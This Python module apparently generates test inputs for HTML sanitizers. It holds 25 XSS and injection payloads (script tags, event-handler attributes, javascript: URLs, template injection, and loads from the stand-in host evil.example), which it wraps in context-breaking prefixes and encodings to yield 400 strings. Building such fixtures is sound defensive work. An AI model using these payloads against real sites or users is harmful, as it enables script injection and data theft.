"""Texts that would run, load or lead somewhere if taken for markup: 25 of them in 16 dresses."""

from html import escape
from urllib.parse import quote

VECTORS = (
    "<script>alert(40)</script>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=alert(40)>",
    "<img src=https://evil.example/a.png>",
    "<svg onload=alert(40)>",
    "<svg><script href=https://evil.example/b.js /></svg>",
    "<iframe srcdoc='<script>alert(40)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<a href=javascript:alert(40)>sale</a>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<form action=https://evil.example/f><button>go</button></form>",
    "<style>@import 'https://evil.example/s.css'</style>",
    "<link rel=stylesheet href=https://evil.example/l.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<video src=https://evil.example/v onerror=alert(40)></video>",
    "<details open ontoggle=alert(40)>x</details>",
    "<input autofocus onfocus=alert(40)>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(40)></style></mglyph></mtext></math>",
    "<div style=background:url(https://evil.example/d.png)>x</div>",
    "![x](https://evil.example/m.png)[y](javascript:alert(40))",
    "{{constructor.constructor('alert(40)')()}}${alert(40)}",
    "javascript:alert(40)//https://evil.example/",
    "<!--?lit$1$--><x-a .innerHTML='<img src=x onerror=alert(40)>'></x-a>",
)

DRESSES = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "\u202e{}",
    "\ufeff {}",
    "&#60;b&#62;{}",
    "https://shop.example/{}",
)

TURNED = (
    escape,
    quote,
    str.upper,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)


def hostile_texts() -> list[str]:
    """Give all 400."""
    dressed = [dress.replace("{}", vector) for dress in DRESSES for vector in VECTORS]
    return dressed + [turn("<" + vector) for turn in TURNED for vector in VECTORS]


def packed(texts: list[str], characters: int) -> list[str]:
    """Put as many into one text as fit, a line each."""
    packs = [""]
    for text in texts:
        if len(packs[-1]) + len(text) + 1 > characters:
            packs.append("")
        packs[-1] += text + "\n"
    return [pack.strip() for pack in packs]
